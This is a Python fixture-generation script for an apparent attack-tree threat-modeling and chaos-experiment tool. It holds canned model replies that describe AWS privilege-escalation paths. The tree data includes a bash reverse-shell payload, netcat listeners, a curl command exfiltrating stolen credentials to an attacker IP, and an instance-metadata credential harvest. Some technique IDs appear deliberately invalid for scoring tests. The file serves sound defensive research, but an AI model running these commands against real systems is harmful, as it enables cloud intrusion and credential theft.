#!/usr/bin/env python3
"""Regenerate the bundled fixtures deterministically.

Builds the canned mock transcript, replays the scripted flow to produce
the merged QwQ-shaped tree, writes the GPT-4-shaped tree, the reference
orders, the chaos-experiment scenario files, and the golden score report.
Asserts the frozen quality numbers before writing anything.
"""

from __future__ import annotations

import base64
import json
import sys
from pathlib import Path

import yaml

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO / "src"))

from adforge.backends import MockBackend, prompt_digest
from adforge.cli import _report_json
from adforge.dot import emit_dot, parse_dot
from adforge.flow import (
    BranchMode,
    GROUNDING_QUESTIONS,
    PromptSpec,
    Verdict,
    _branch_prompt,
    _refine_prompt,
    apply_cosmetics,
    merge_candidates,
    render_insert_prompt,
    request_branch,
    send_insert_prompt,
    start_session,
    submit_validation,
)
from adforge.metrics import ReferenceOrder, TechniqueCatalog, tree_score
from adforge.mockcloud import DetectorConfig, HypothesisVerdict, MockCloudState, run_experiment
from adforge.model import StyleSheet, extract_branch, trees_equal
from adforge.sce import ScenarioDefaults, compile_experiment

FIX = REPO / "fixtures"

REVERSE_SHELL = "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.10/4444 0>&1\n"
USER_DATA_B64 = base64.b64encode(REVERSE_SHELL.encode()).decode()

STYLE = {
    "attack": {"fillcolor": "#ADD8E6"},
    "service": {"fillcolor": "#00008B"},
    "defense": {"fillcolor": "#90EE90"},
    "goal": {"fillcolor": "#FFD700"},
}

SPEC = {
    "system_context": (
        "Cloud-native military logistics platform tracking warfighter supplies "
        "across global bases; classified inventory data must withstand "
        "nation-state espionage attempts."
    ),
    "components": [
        {"technology": "AWS EC2",
         "safeguards": ["Amazon GuardDuty to detect anomalous accesses"]},
        {"technology": "AWS CodeBuild",
         "safeguards": ["build logs streamed to CloudWatch with CloudTrail audit"]},
        {"technology": "AWS CodeGuru",
         "safeguards": ["automated code security review on every commit"]},
    ],
    "attack_goals": ["Privilege escalation"],
    "tree_root": "Cloud-based military logistics system",
}

GROUNDING_ANSWERS = {
    "What is application security?": (
        "Application security is the practice of designing, building, and "
        "operating software so that its confidentiality, integrity, and "
        "availability hold up against deliberate misuse. It spans secure "
        "coding, dependency hygiene, configuration hardening, and runtime "
        "monitoring."
    ),
    "What is threat modeling?": (
        "Threat modeling is a structured review of a system that asks what "
        "can go wrong, who would make it go wrong, and which mitigations "
        "reduce the risk. The output is a prioritized map of threats tied "
        "to concrete system components."
    ),
    "What is threat modeling using attack trees?": (
        "Attack-tree threat modeling decomposes an attacker goal into "
        "branches of intermediate steps. Each leaf is a concrete action; "
        "paths from the root show complete attack sequences, and defense "
        "nodes record the countermeasures that interrupt them."
    ),
}

INSERT_ACK = (
    "Understood. I have the system context, the three components with their "
    "safeguards, the attack goal, and the tree root. Ask me for branches and "
    "I will reply with annotated DOT digraphs."
)

EC2_BRANCH_DOT = f"""digraph ec2_branch {{
  root [label="Cloud-based military logistics system", adtkind=root];
  svc_ec2 [label="AWS EC2", adtkind=service];
  ec2_spot [label="Request Spot instance with privileged role", adtkind=attack, mitre="T1578.002", step=1,
    cmd="aws ec2 request-spot-instances --launch-specification file://launch-spec.json;;nc -lvnp 4444 &",
    inputs="role_name=EC2-CloudWatch-Agent-Role;;user_data_base64={USER_DATA_B64};;listener_port=4444",
    expect="Spot request accepted; instance boots with the passed role and phones back to the listener"];
  ec2_creds [label="Harvest role credentials from instance metadata", adtkind=attack, mitre="T1552.005", step=2,
    cmd="curl http://169.254.169.254/latest/meta-data/iam/security-credentials/EC2-CloudWatch-Agent-Role",
    inputs="role_name=EC2-CloudWatch-Agent-Role",
    expect="Temporary key id, secret, and session token returned"];
  ec2_use [label="Use stolen credentials for IAM reconnaissance", adtkind=attack, mitre="T1087.004", step=3,
    cmd="aws iam list-users --profile stolen",
    inputs="api_action=iam:ListUsers",
    expect="User listing succeeds although the original principal lacks iam:ListUsers"];
  ec2_def [label="GuardDuty flags anomalous spot launches", adtkind=defense];
  goal [label="Privilege escalation", adtkind=goal];
  root -> svc_ec2;
  svc_ec2 -> ec2_spot;
  ec2_spot -> ec2_creds;
  ec2_spot -> ec2_def;
  ec2_creds -> ec2_use;
  ec2_use -> goal;
}}"""

CODEBUILD_BRANCH_DOT = """digraph codebuild_branch {
  root [label="Cloud-based military logistics system", adtkind=root];
  svc_codebuild [label="AWS CodeBuild", adtkind=service];
  cb_access [label="Sign in with leaked pipeline credentials", adtkind=attack, mitre="T1078.004", step=1,
    cmd="aws sts get-caller-identity --profile leaked-ci",
    expect="Caller identity shows the CI service account"];
  cb_project [label="Create rogue CodeBuild project", adtkind=attack, mitre="T1998", step=2,
    cmd="aws codebuild create-project --name shadow-build --source type=NO_SOURCE",
    inputs="project_name=shadow-build",
    expect="Project created without review"];
  cb_buildspec [label="Plant reverse-shell buildspec", adtkind=attack, step=3,
    cmd="printf 'version: 0.2' > buildspec.yml",
    inputs="listener_host=203.0.113.10;;listener_port=4444",
    expect="Buildspec opens a reverse shell when the build starts"];
  cb_run [label="Start build to trigger payload", adtkind=attack, step=4,
    cmd="aws codebuild start-build --project-name shadow-build",
    inputs="project_name=shadow-build",
    expect="Build container connects back to the listener"];
  cb_creds [label="Dump build-role credentials from container env", adtkind=attack, mitre="T1552.001", mitre_ok=false, step=5,
    cmd="env | grep -i aws_",
    inputs="container_path=/codebuild/output",
    expect="Build role keys captured"];
  cb_exfil [label="Exfiltrate captured keys to attacker host", adtkind=attack, mitre="T1999", step=6,
    cmd="curl -X POST -d @creds.json http://203.0.113.10/drop",
    inputs="drop_url=http://203.0.113.10/drop",
    expect="Credentials land on the attacker server"];
  cb_cleanup [label="Delete rogue project to cover tracks", adtkind=attack, step=7,
    cmd="aws codebuild delete-project --name shadow-build",
    inputs="project_name=shadow-build"];
  cb_persist [label="Keep background session via stolen keys", adtkind=attack, mitre="T2000", step=8,
    cmd="aws configure --profile persisted",
    inputs="profile=persisted",
    expect="Attacker retains API access after cleanup"];
  cb_def [label="Build-log anomaly alerts on unapproved projects", adtkind=defense];
  goal [label="Privilege escalation", adtkind=goal];
  root -> svc_codebuild;
  svc_codebuild -> cb_access;
  cb_access -> cb_project;
  cb_project -> cb_buildspec;
  cb_project -> cb_def;
  cb_buildspec -> cb_run;
  cb_run -> cb_creds;
  cb_creds -> cb_exfil;
  cb_exfil -> cb_cleanup;
  cb_cleanup -> cb_persist;
  cb_persist -> goal;
}"""

CODEGURU_BRANCH_DOT = """digraph codeguru_branch {
  root [label="Cloud-based military logistics system", adtkind=root];
  svc_codeguru [label="AWS CodeGuru", adtkind=service];
  cg_clone [label="Clone mission repository with developer token", adtkind=attack, step=1,
    cmd="git clone https://git.example.mil/logistics.git",
    inputs="repo_url=https://git.example.mil/logistics.git",
    expect="Working copy obtained"];
  cg_inject [label="Commit poisoned helper module", adtkind=attack, mitre="T1996", step=2,
    cmd="git commit -am refactor-logging-helper && git push",
    inputs="branch=main",
    expect="Malicious commit lands on the default branch"];
  cg_config [label="Point review config at attacker webhook", adtkind=attack, step=3,
    cmd="aws codeguru-reviewer update-repository-association --association-arn arn:aws:codeguru:us-east-1:123456789012:association/abc",
    expect="Review events mirrored to the attacker endpoint"];
  cg_trigger [label="Open pull request to force automated review", adtkind=attack, mitre="T1995", step=4,
    cmd="git push origin feature/poison && gh pr create --fill",
    inputs="branch=feature/poison",
    expect="CodeGuru review starts automatically"];
  cg_leak [label="Scrape secrets echoed in review artifacts", adtkind=attack, mitre="T1994.001", step=5,
    cmd="aws codeguru-reviewer describe-code-review --code-review-arn arn:aws:codeguru:us-east-1:123456789012:code-review/xyz",
    inputs="review_arn=arn:aws:codeguru:us-east-1:123456789012:code-review/xyz",
    expect="Findings embed configuration secrets"];
  cg_extract [label="Recover analysis-role credentials from leaked config", adtkind=attack, step=6,
    cmd="jq -r .secrets[] review-artifacts.json",
    inputs="artifact_path=review-artifacts.json",
    expect="Analysis role keys recovered"];
  cg_escalate [label="Assume analysis role for broader access", adtkind=attack, step=7,
    inputs="role_arn=arn:aws:iam::123456789012:role/CodeGuruAnalysisRole",
    expect="Role assumed; elevated permissions active"];
  cg_def [label="Review-config changes require a second approver", adtkind=defense];
  goal [label="Privilege escalation", adtkind=goal];
  root -> svc_codeguru;
  svc_codeguru -> cg_clone;
  cg_clone -> cg_inject;
  cg_inject -> cg_config;
  cg_config -> cg_trigger;
  cg_config -> cg_def;
  cg_trigger -> cg_leak;
  cg_leak -> cg_extract;
  cg_extract -> cg_escalate;
  cg_escalate -> goal;
}"""

GPT4_TREE_DOT = """digraph gpt4_tree {
  adtstyle="attack:fillcolor=#ADD8E6;defense:fillcolor=#90EE90;goal:fillcolor=#FFD700;service:fillcolor=#00008B";
  root [label="Cloud-based military logistics system", adtkind=root];
  g_svc_ec2 [label="AWS EC2", adtkind=service];
  g_svc_codebuild [label="AWS CodeBuild", adtkind=service];
  g_svc_codeguru [label="AWS CodeGuru", adtkind=service];
  g_ec2_1 [label="Scan for exposed management ports", adtkind=attack, mitre="T1989", step=1,
    cmd="nmap -p 22,3389 198.51.100.0/24",
    expect="Open admin ports enumerated"];
  g_ec2_2 [label="Phish operator for console credentials", adtkind=attack, mitre="T1566", step=2,
    cmd="gophish campaigns create --template mod-portal",
    inputs="target_list=ops-team.csv",
    expect="Operator submits credentials"];
  g_ec2_3 [label="Open console session from attacker address", adtkind=attack, step=3,
    inputs="console_url=https://console.example.com"];
  g_cb_1 [label="Enumerate build projects", adtkind=attack, mitre="T1988", step=1,
    cmd="aws codebuild list-projects",
    expect="Project names revealed"];
  g_cb_2 [label="Override buildspec with malicious script", adtkind=attack, step=2,
    cmd="aws codebuild start-build --buildspec-override file://evil.yml",
    inputs="project_name=logistics-ci"];
  g_cb_3 [label="Read secrets from build logs", adtkind=attack, step=3,
    cmd="aws logs get-log-events --log-group-name /aws/codebuild/logistics-ci",
    expect="Plaintext secrets in the log stream"];
  g_cg_1 [label="List repository associations", adtkind=attack, mitre="T1987", step=1,
    cmd="aws codeguru-reviewer list-repository-associations",
    expect="Associated repositories enumerated"];
  g_cg_2 [label="Request review of secret-bearing branch", adtkind=attack, step=2,
    cmd="aws codeguru-reviewer create-code-review --name probe",
    inputs="branch=config-backup",
    expect="Review output references embedded keys"];
  g_cg_3 [label="Harvest keys from review findings", adtkind=attack, step=3,
    cmd="aws codeguru-reviewer list-recommendations --code-review-arn arn:aws:codeguru:us-east-1:123456789012:code-review/p1",
    inputs="review_arn=arn:aws:codeguru:us-east-1:123456789012:code-review/p1",
    expect="Credentials recovered from recommendations"];
  goal [label="Privilege escalation", adtkind=goal];
  root -> g_svc_ec2;
  root -> g_svc_codebuild;
  root -> g_svc_codeguru;
  g_svc_ec2 -> g_ec2_1;
  g_ec2_1 -> g_ec2_2;
  g_ec2_2 -> g_ec2_3;
  g_ec2_3 -> goal;
  g_svc_codebuild -> g_cb_1;
  g_cb_1 -> g_cb_2;
  g_cb_2 -> g_cb_3;
  g_cb_3 -> goal;
  g_svc_codeguru -> g_cg_1;
  g_cg_1 -> g_cg_2;
  g_cg_2 -> g_cg_3;
  g_cg_3 -> goal;
}"""


# Matches FIXTURE_REFINEMENT_FEEDBACK in frontend/src/defaults.ts.
REFINEMENT_FEEDBACK = "Add an explicit reverse-shell listener step to the EC2 branch"


def refined_tree_dot(accepted_dot: str) -> str:
    """The canned refinement reply: an ec2_listen step spliced into branch 1."""
    from adforge.model import ADNode, NodeKind

    tree = parse_dot(accepted_dot)
    tree.nodes["ec2_listen"] = ADNode(
        id="ec2_listen",
        kind=NodeKind.ATTACK,
        label="Stand up reverse-shell listener",
        commands=["nc -lvnp 4444"],
        inputs=["listener_port=4444"],
        expected_results="Listener ready before the instance boots",
        step_index=2,
    )
    tree.edges = [e for e in tree.edges if e != ("ec2_spot", "ec2_creds")]
    tree.edges.extend([("ec2_spot", "ec2_listen"), ("ec2_listen", "ec2_creds")])
    tree.nodes["ec2_creds"].step_index = 3
    tree.nodes["ec2_use"].step_index = 4
    tree.validate()
    return emit_dot(tree)


def wrap_reply(component: str, dot: str) -> str:
    return (
        f"Here is a generalized attack-defense branch for {component}. Every "
        "attack node carries its technique id where one applies, plus the "
        "commands, inputs, and expected results.\n\n"
        f"```dot\n{dot}\n```\n\n"
        "The branch converges on the shared goal node."
    )


SCRIPT_OPS = [
    {"op": "insert"},
    {"op": "branch", "mode": "generalized", "component": "AWS EC2"},
    {"op": "branch", "mode": "generalized", "component": "AWS CodeBuild"},
    {"op": "branch", "mode": "generalized", "component": "AWS CodeGuru"},
    {"op": "merge"},
    {"op": "cosmetics", "style": STYLE},
    {"op": "validate", "verdict": "accept"},
]

QWQ_ORDER = [
    "ec2_spot", "ec2_creds", "ec2_use",
    "cb_access", "cb_project", "cb_buildspec", "cb_run", "cb_creds",
    "cb_exfil", "cb_cleanup", "cb_persist",
    "cg_clone", "cg_inject", "cg_config", "cg_trigger", "cg_leak",
    "cg_extract", "cg_escalate",
]

GPT4_ORDER = [
    "g_ec2_1", "g_ec2_2", "g_ec2_3",
    "g_cb_1", "g_cb_2", "g_cb_3",
    "g_cg_1", "g_cg_2", "g_cg_3",
]

PAPER_STATE = {
    "findings": [],
    "instances": [],
    "roles": {
        "EC2-CloudWatch-Agent-Role": {
            "permissions": ["iam:ListUsers"],
            "credentials": {
                "key_id": "ASIAMOCKROLEKEY00001",
                "secret": "mock-secret-7f3d1c",
                "token": "mock-session-token-2b9a",
                "expiry": "2025-01-01T06:00:00Z",
            },
        }
    },
    "principal_permissions": ["ec2:RequestSpotInstances", "iam:PassRole"],
}

DETECTOR = {
    "enabled": True,
    "rules": [
        {
            "event": "RequestSpotInstances",
            "field": "user_data_base64",
            "pattern": "^[A-Za-z0-9+/=]{40,}$",
            "finding_type": "UnauthorizedAccess:EC2/SuspiciousUserData",
            "severity": "HIGH",
        }
    ],
}

SCENARIO_DEFAULTS = {
    "name": "spot-role-privilege-escalation",
    "observability": (
        "Watch the account anomaly detector for findings raised while spot "
        "instances launch with attacker-supplied user data."
    ),
    "steady_state": ["findings_empty", "no_overprivileged_roles", "detector_enabled"],
    "hypothesis": {
        "text": (
            "Launching a spot instance that passes the privileged role and "
            "carries a suspicious user-data payload raises a detector finding."
        ),
        "expected_finding": "UnauthorizedAccess:EC2/SuspiciousUserData",
    },
    "initial_stages": [
        {
            "name": "verify clean detector state",
            "action": "check_findings",
            "params": {},
            "expected": "no findings before injection",
        }
    ],
}


def build_transcript(spec: PromptSpec) -> MockBackend:
    entries: dict[str, str] = {}
    previews: dict[str, str] = {}

    def record(prompt: str, reply: str) -> None:
        digest = prompt_digest(prompt)
        entries[digest] = reply
        previews[digest] = prompt.splitlines()[0][:100]

    for question in GROUNDING_QUESTIONS:
        record(question, GROUNDING_ANSWERS[question])
    record(render_insert_prompt(spec), INSERT_ACK)
    record(_branch_prompt(spec, BranchMode.GENERALIZED, "AWS EC2", None),
           wrap_reply("AWS EC2", EC2_BRANCH_DOT))
    record(_branch_prompt(spec, BranchMode.GENERALIZED, "AWS CodeBuild", None),
           wrap_reply("AWS CodeBuild", CODEBUILD_BRANCH_DOT))
    record(_branch_prompt(spec, BranchMode.GENERALIZED, "AWS CodeGuru", None),
           wrap_reply("AWS CodeGuru", CODEGURU_BRANCH_DOT))

    backend = MockBackend(entries)
    backend._previews = previews
    return backend


def run_flow(spec: PromptSpec, backend: MockBackend):
    session = start_session(spec, backend, session_id="fixture")
    catalog = TechniqueCatalog.load()
    for op in SCRIPT_OPS:
        if op["op"] == "insert":
            send_insert_prompt(session, backend, catalog)
        elif op["op"] == "branch":
            request_branch(session, backend, BranchMode(op["mode"]),
                           component=op.get("component"), catalog=catalog)
        elif op["op"] == "merge":
            merge_candidates(session, catalog=catalog)
        elif op["op"] == "cosmetics":
            apply_cosmetics(session, backend, style=StyleSheet.from_dict(op["style"]),
                            catalog=catalog)
        elif op["op"] == "validate":
            submit_validation(session, Verdict(op["verdict"]), backend=backend,
                              catalog=catalog)
    assert session.accepted_tree is not None
    return session


def check_scores(tree, order_path_entries, expected, catalog):
    reference = ReferenceOrder(order_path_entries)
    report = tree_score(tree, catalog, reference)
    got = (report.n, report.mitre_score, report.ordered_score,
           report.usable_score, report.tree_score)
    assert got == expected, f"scores drifted: {got} != {expected}"
    return report


def check_refined_experiment(refined_dot: str) -> None:
    tree = parse_dot(refined_dot)
    branch = extract_branch(tree, "goal", leaf_hint="ec2_use")
    exp = compile_experiment(branch, tree, ScenarioDefaults.from_dict(SCENARIO_DEFAULTS))
    assert [s.action.value for s in exp.stages] == [
        "check_findings", "create_spot_instance", "start_listener",
        "extract_credentials", "use_credentials",
    ], [s.action.value for s in exp.stages]
    report = run_experiment(exp, MockCloudState.from_dict(PAPER_STATE),
                            DetectorConfig.from_dict(DETECTOR))
    assert report.hypothesis_verdict is HypothesisVerdict.CONFIRMED


def check_experiment(tree) -> None:
    branch = extract_branch(tree, "goal", leaf_hint="ec2_use")
    assert branch.node_ids == ["root", "svc_ec2", "ec2_spot", "ec2_creds", "ec2_use", "goal"], branch.node_ids
    defaults = ScenarioDefaults.from_dict(SCENARIO_DEFAULTS)
    exp = compile_experiment(branch, tree, defaults)
    assert [s.action.value for s in exp.stages] == [
        "check_findings", "create_spot_instance", "extract_credentials", "use_credentials",
    ], [s.action.value for s in exp.stages]
    state = MockCloudState.from_dict(PAPER_STATE)
    detector = DetectorConfig.from_dict(DETECTOR)

    report = run_experiment(exp, state, detector)
    assert report.hypothesis_verdict is HypothesisVerdict.CONFIRMED, report.to_dict()
    assert len(report.detector_findings_emitted) == 1

    crippled = MockCloudState.from_dict({**PAPER_STATE,
                                         "principal_permissions": ["ec2:RequestSpotInstances"]})
    report2 = run_experiment(exp, crippled, detector)
    assert report2.hypothesis_verdict is HypothesisVerdict.INCONCLUSIVE

    vacuous = DetectorConfig.from_dict({"enabled": True, "rules": []})
    report3 = run_experiment(exp, state, vacuous)
    assert report3.hypothesis_verdict is HypothesisVerdict.REFUTED


def main() -> None:
    for sub in ("trees", "references", "transcripts", "specs", "flow", "sce", "golden"):
        (FIX / sub).mkdir(parents=True, exist_ok=True)

    spec = PromptSpec.from_dict(SPEC)
    backend = build_transcript(spec)

    session = run_flow(spec, backend)
    qwq_dot = emit_dot(session.accepted_tree)
    (FIX / "trees" / "qwq.dot").write_text(qwq_dot, "utf-8")

    # refinement round used by the analyst-UI loop: keyed off the accepted
    # tree's bytes, so it must be recorded after the flow has produced them
    refine_prompt = _refine_prompt(qwq_dot, REFINEMENT_FEEDBACK)
    refine_reply = (
        "Done. The EC2 branch now carries a dedicated listener step between "
        "the spot request and the credential harvest.\n\n"
        f"```dot\n{refined_tree_dot(qwq_dot)}```\n"
    )
    digest = prompt_digest(refine_prompt)
    backend.entries[digest] = refine_reply
    backend._previews[digest] = refine_prompt.splitlines()[0][:100]
    backend.save(FIX / "transcripts" / "qwq.json", previews=backend._previews)
    check_refined_experiment(refined_tree_dot(qwq_dot))

    qwq = parse_dot(qwq_dot)
    assert trees_equal(qwq, session.accepted_tree)
    assert emit_dot(qwq) == qwq_dot

    gpt4 = parse_dot(GPT4_TREE_DOT)
    gpt4_dot = emit_dot(gpt4)
    (FIX / "trees" / "gpt4.dot").write_text(gpt4_dot, "utf-8")

    catalog = TechniqueCatalog.load()
    report = check_scores(qwq, QWQ_ORDER, (18, 22.22, 100.0, 92.59, 71.6), catalog)
    check_scores(gpt4, GPT4_ORDER, (9, 11.11, 100.0, 74.07, 61.73), catalog)
    check_experiment(qwq)

    (FIX / "references" / "qwq-order.txt").write_text("\n".join(QWQ_ORDER) + "\n", "utf-8")
    (FIX / "references" / "gpt4-order.txt").write_text("\n".join(GPT4_ORDER) + "\n", "utf-8")
    (FIX / "specs" / "govcloud.yaml").write_text(yaml.safe_dump(SPEC, sort_keys=False), "utf-8")
    (FIX / "flow" / "qwq-script.json").write_text(json.dumps(SCRIPT_OPS, indent=2) + "\n", "utf-8")
    (FIX / "sce" / "paper-state.json").write_text(json.dumps(PAPER_STATE, indent=2) + "\n", "utf-8")
    (FIX / "sce" / "detector.json").write_text(json.dumps(DETECTOR, indent=2) + "\n", "utf-8")
    (FIX / "sce" / "detector-none.json").write_text(
        json.dumps({"enabled": True, "rules": []}, indent=2) + "\n", "utf-8")
    (FIX / "sce" / "scenario-defaults.yaml").write_text(
        yaml.safe_dump(SCENARIO_DEFAULTS, sort_keys=False), "utf-8")
    (FIX / "golden" / "qwq-score.json").write_text(_report_json(report), "utf-8")

    print("fixtures written; qwq tree_score:", report.tree_score)


if __name__ == "__main__":
    main()
